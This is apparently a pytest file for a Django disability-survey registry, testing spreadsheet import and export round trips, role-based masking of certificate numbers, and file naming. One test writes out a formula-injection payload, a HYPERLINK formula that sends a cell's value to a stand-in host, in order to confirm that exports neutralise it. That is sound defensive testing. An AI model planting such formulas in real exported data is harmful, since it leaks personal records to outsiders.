"""A clerk's round trip through the pages, and the record-list exports
(FC-20, FC-32, FC-38, FC-39, FC-42)."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from dtgx.accounts.models import AccessAction, AccessLog, User
from dtgx.accounts.roles import Role
from dtgx.conftest import World
from dtgx.imports.models import ImportBatch
from dtgx.imports.tests.helpers import person_cells, row_values
from dtgx.registry.models import Person
from dtgx.survey.answers import values_of
from dtgx.survey.models import PersonRecord, Round
from dtgx.survey.sheets import cell_value, export_only_headers, item_columns
from dtgx.survey.tests.helpers import enter


@pytest.fixture
def clerk_client(cili_clerk: User) -> Client:
    client = Client()
    client.force_login(cili_clerk)
    return client


def _download_and_fill(
    client: Client, round: Round, holders: list[Person], path: Path
) -> Path:
    response = client.get(reverse("imports:template", args=[round.year, "person"]))
    assert response.status_code == 200
    path.write_bytes(_body(response))
    book = load_workbook(path)
    sheet = book.worksheets[0]
    for number, holder in enumerate(holders, start=2):
        for index, value in enumerate(row_values(person_cells(holder)), start=1):
            sheet.cell(row=number, column=index, value=value)
    book.save(path)
    return path


def _body(response: Any) -> bytes:
    return b"".join(response.streaming_content)


def _upload(client: Client, round: Round, path: Path) -> ImportBatch:
    with path.open("rb") as handle:
        response = client.post(
            reverse("imports:import_page", args=[round.year, "person"]),
            {"file": handle},
        )
    assert response.status_code == 302, response.content.decode()[:2000]
    return ImportBatch.objects.order_by("-pk").first()  # type: ignore[return-value]


def _decide(client: Client, batch: ImportBatch, action: str) -> ImportBatch:
    url = reverse("imports:batch_decide", args=[batch.pk])
    assert client.post(url, {"action": action}).status_code == 302
    batch.refresh_from_db()
    return batch


def test_a_clerk_downloads_fills_checks_commits_and_reimports(
    clerk_client: Client, round: Round, holders: list[Person], tmp_path: Path
) -> None:
    path = _download_and_fill(clerk_client, round, holders, tmp_path / "填好的.xlsx")

    batch = _upload(clerk_client, round, path)
    page = clerk_client.get(reverse("imports:batch_detail", args=[batch.pk]))
    assert "导入无误的3行" in page.content.decode()
    assert "整个文件暂不导入" in page.content.decode()
    progress = clerk_client.get(reverse("imports:batch_progress", args=[batch.pk]))
    assert progress.json()["status"] == "checked"

    batch = _decide(clerk_client, batch, "commit")
    assert (batch.status, batch.to_create) == ("committed", 3)
    assert PersonRecord.objects.count() == 3

    again = _upload(clerk_client, round, path)
    assert (again.to_create, again.unchanged) == (0, 3)
    again = _decide(clerk_client, again, "commit")
    assert PersonRecord.objects.count() == 3
    assert {r.version for r in PersonRecord.objects.all()} == {1}


def test_the_export_holds_every_stored_value_cell_by_cell(
    clerk_client: Client,
    cili_clerk: User,
    round: Round,
    world: World,
    holders: list[Person],
) -> None:
    for holder in holders:
        enter(cili_clerk, holder, round)
    url = reverse(
        "survey:person_record_export", args=[round.year, world.cili.code, "xlsx"]
    )

    response = clerk_client.get(url)
    book = load_workbook(io.BytesIO(_body(response)))
    rows = list(book.worksheets[0].iter_rows(values_only=True))

    form = PersonRecord.questionnaire()
    columns = item_columns(form)
    assert list(rows[0]) == [c.header for c in columns] + list(export_only_headers())
    records = PersonRecord.objects.order_by("region_code", "pk")
    assert len(rows) == 1 + records.count()
    for record, row in zip(records, rows[1:], strict=True):
        values = values_of(form, record)
        for index, column in enumerate(columns):
            expected = cell_value(column.item, values[column.item.id], reveal_ids=True)
            got = row[index]
            if hasattr(got, "date") and got is not None:
                got = got.date()
            assert got == expected, column.header
        assert row[len(columns)] == record.pk
    log = AccessLog.objects.filter(action=AccessAction.EXPORT).get()
    assert log.record_count == 3


def test_the_export_reimports_as_unchanged(
    clerk_client: Client,
    cili_clerk: User,
    round: Round,
    world: World,
    holders: list[Person],
    tmp_path: Path,
) -> None:
    for holder in holders:
        enter(cili_clerk, holder, round)
    url = reverse(
        "survey:person_record_export", args=[round.year, world.cili.code, "xlsx"]
    )
    path = tmp_path / "导出.xlsx"
    path.write_bytes(_body(clerk_client.get(url)))

    batch = _upload(clerk_client, round, path)

    assert (batch.status, batch.unchanged, batch.rows_bad) == ("checked", 3, 0)


def test_roles_that_may_not_see_whole_numbers_get_them_masked(
    round: Round, world: World, cili_clerk: User, holders: list[Person]
) -> None:
    enter(cili_clerk, holders[0], round)
    director = world.person("cili_chair", world.cili, Role.FEDERATION_CHAIRMAN)
    client = Client()
    client.force_login(director)
    url = reverse(
        "survey:person_record_export", args=[round.year, world.cili.code, "csv"]
    )

    text = _body(client.get(url)).decode("utf-8-sig")

    assert holders[0].certificate_number not in text
    assert holders[0].certificate_number[:6] in text
    assert not AccessLog.objects.filter(action=AccessAction.REVEAL).exists()


def test_exports_neutralise_formulas_and_control_characters_but_not_numbers(
    clerk_client: Client,
    cili_clerk: User,
    round: Round,
    world: World,
    holders: list[Person],
) -> None:
    enter(
        cili_clerk,
        holders[0],
        round,
        basic__name='=HYPERLINK("http://example.invalid/?x="&B2,"点击")',
        footer__remarks="@SUM(1+1)\x0b某街道\x163号",
    )
    url = reverse(
        "survey:person_record_export", args=[round.year, world.cili.code, "csv"]
    )

    response = clerk_client.get(url)
    body = _body(response)
    [head, row] = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))[:2]

    assert body.startswith(b"\xef\xbb\xbf")
    assert row[head.index("R1 姓名")].startswith("'=HYPERLINK")
    remarks = row[head.index("F6 备注")]
    assert remarks == "'@SUM(1+1) 某街道3号"
    assert "\x0b" not in remarks
    assert "\x16" not in remarks
    assert row[head.index("R16 是否就业")] == "1"


def test_export_file_names_are_chinese_with_an_ascii_fallback(
    clerk_client: Client,
    cili_clerk: User,
    round: Round,
    world: World,
    holders: list[Person],
) -> None:
    enter(cili_clerk, holders[0], round)
    url = reverse(
        "survey:person_record_export", args=[round.year, world.cili.code, "xlsx"]
    )

    disposition = clerk_client.get(url)["Content-Disposition"]

    name = "2025年慈利县残疾人登记表记录.xlsx"
    assert "filename*=UTF-8''" + quote(name, safe="") in disposition
    assert 'filename="' in disposition


def test_a_list_longer_than_a_sheet_continues_on_the_next(
    clerk_client: Client,
    cili_clerk: User,
    round: Round,
    world: World,
    holders: list[Person],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """FC-42 with a sheet of two rows instead of 1,048,575."""
    monkeypatch.setattr("dtgx.exports.xlsxfile.MAX_DATA_ROWS_PER_SHEET", 2)
    for holder in holders:
        enter(cili_clerk, holder, round)
    url = reverse(
        "survey:person_record_export", args=[round.year, world.cili.code, "xlsx"]
    )

    book = load_workbook(io.BytesIO(_body(clerk_client.get(url))))

    assert [sheet.max_row for sheet in book.worksheets] == [3, 2]


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice not installed")
def test_an_export_saved_again_by_libreoffice_reimports_unchanged(
    clerk_client: Client,
    cili_clerk: User,
    round: Round,
    world: World,
    holders: list[Person],
    tmp_path: Path,
) -> None:
    for holder in holders:
        enter(cili_clerk, holder, round)
    url = reverse(
        "survey:person_record_export", args=[round.year, world.cili.code, "xlsx"]
    )
    source = tmp_path / "in" / "export.xlsx"
    source.parent.mkdir()
    source.write_bytes(_body(clerk_client.get(url)))
    out = tmp_path / "out"
    soffice = shutil.which("soffice") or "soffice"
    subprocess.run(  # noqa: S603
        [
            soffice,
            "--headless",
            "--convert-to",
            "xlsx",
            "--outdir",
            str(out),
            str(source),
        ],
        check=True,
        timeout=120,
    )

    batch = _upload(clerk_client, round, out / "export.xlsx")

    assert (batch.unchanged, batch.rows_bad) == (3, 0)
